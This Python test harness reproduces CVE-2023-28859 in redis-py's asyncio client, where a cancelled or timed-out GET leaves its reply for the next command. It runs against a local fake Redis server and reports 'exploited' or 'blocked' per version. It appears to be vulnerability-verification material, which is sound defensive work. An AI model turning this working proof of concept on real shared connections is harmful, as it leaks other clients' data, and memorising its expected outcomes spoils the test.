# /// vertice-probe
# id = "PYSEC-2023-46"
# aliases = ["CVE-2023-28859"]
# package = "redis"
# summary = "A cancelled asynchronous command leaves its answer on the connection, and the next command gets it."
# severity = [{ type = "CVSS_V3", score = "CVSS:3.1/AV:N/AC:L/PR:L/UI:N/S:U/C:H/I:N/A:N" }]
# cwe = ["CWE-459"]
# kind = "leak"
# symbols = ["redis.asyncio.Redis", "redis.asyncio.StrictRedis", "redis.asyncio.from_url", "redis.asyncio.client.Redis"]
#
# [[affected]]
# package = "redis"
# ranges = [
#   { type = "ECOSYSTEM", events = [
#     { introduced = "4.2.0" },
#     { fixed = "4.4.4" },
#     { introduced = "4.5.0" },
#     { fixed = "4.5.4" },
#   ] },
# ]
#
# [cases]
# attack = "after a cancelled GET of one key the next GET receives that key's value"
# [cases.variants]
# single_connection = "the same for a client with one connection of its own, the first GET ended by a timeout"
# [cases.controls]
# commands = "commands in turn and at once receive their own values"
#
# [test]
# vulnerable = "4.5.3"
# fixed = "4.5.4"
# ///
"""CVE-2023-28859: a cancelled command leaves its answer for the next one."""

import asyncio
import json
import sys
import warnings

warnings.simplefilter("ignore")


class Store(object):
    """A loopback server of the protocol that answers GET with `value of KEY`, for the key `slow` only when told."""

    def __init__(self):
        self.asked, self.slow, self.go = [], asyncio.Event(), asyncio.Event()

    async def command(self, reader):
        count = int((await reader.readline())[1:])
        words = []
        for _ in range(count):
            size = int((await reader.readline())[1:])
            words.append((await reader.readexactly(size + 2))[:-2].decode())
        return words

    async def serve(self, reader, writer):
        try:
            while True:
                words = await self.command(reader)
                self.asked.append(words)
                if words[0].upper() != "GET":
                    writer.write(b"+OK\r\n")
                    continue
                if words[1] == "slow":
                    self.slow.set()
                    await self.go.wait()
                value = ("value of " + words[1]).encode()
                writer.write(b"$%d\r\n%s\r\n" % (len(value), value))
        except (ValueError, IndexError, asyncio.IncompleteReadError, ConnectionError, asyncio.CancelledError):
            pass  # the client closed the connection, or the case is over
        finally:
            writer.close()

    async def open(self):
        server = await asyncio.start_server(self.serve, "127.0.0.1", 0)
        return server.sockets[0].getsockname()[1]


async def client(store, connections):
    import redis.asyncio

    port = await store.open()
    # a pool of one connection: who comes next gets the same one
    pool = redis.asyncio.BlockingConnectionPool(
        host="127.0.0.1", port=port, max_connections=connections, timeout=5, decode_responses=True
    )
    return redis.asyncio.Redis(connection_pool=pool)


def look(store, got):
    if store.asked[-1:] != [["GET", "other"]] or ["GET", "slow"] not in store.asked:
        return "error", "the server was not asked both: %r" % store.asked
    if got == "value of slow":
        return "exploited", "GET other received the value of slow"
    if got == "value of other":
        return "blocked", "GET other received its own value after the cancelled command"
    return "error", "GET other received %r" % got


async def cancel_and_ask(store, made, end):
    """Start GET slow, let `end` cancel it once the server has it, and ask for another key."""
    task = asyncio.ensure_future(made.get("slow"))
    await asyncio.wait_for(store.slow.wait(), 5)
    if not await end(task):
        return "error", "the command was not cancelled"
    # a release that finishes the command first gets its answer only now
    asyncio.get_running_loop().call_later(0.1, store.go.set)
    return look(store, await asyncio.wait_for(made.get("other"), 8))


def attack():
    async def cancel(task):
        task.cancel()
        try:
            await task
        except asyncio.CancelledError:
            return True

    async def run():
        store = Store()
        return await cancel_and_ask(store, await client(store, 1), cancel)

    return asyncio.run(run())


def single_connection():
    import redis.asyncio

    async def time_out(task):
        try:
            await asyncio.wait_for(task, 0.05)
        except asyncio.TimeoutError:
            return True

    async def run():
        store = Store()
        port = await store.open()
        made = redis.asyncio.Redis(host="127.0.0.1", port=port, single_connection_client=True, decode_responses=True)
        return await cancel_and_ask(store, made, time_out)

    return asyncio.run(run())


def commands():
    async def run():
        store = Store()
        made = await client(store, 2)
        await made.set("a", "1")
        first = await made.get("a")
        both = await asyncio.gather(made.get("b"), made.get("c"))
        return [first] + list(both)

    got = asyncio.run(run())
    wanted = ["value of a", "value of b", "value of c"]
    return ("works", "each command received its own value") if got == wanted else ("broken", repr(got))


CASES = {"attack": attack, "single_connection": single_connection, "commands": commands}

if __name__ == "__main__":
    try:
        outcome, evidence = CASES[sys.argv[1] if len(sys.argv) > 1 else "attack"]()
    except BaseException as error:  # could not reach the code: never "blocked"
        outcome, evidence = "error", "%s: %s" % (type(error).__name__, error)
    print(json.dumps({"outcome": outcome, "evidence": evidence}))
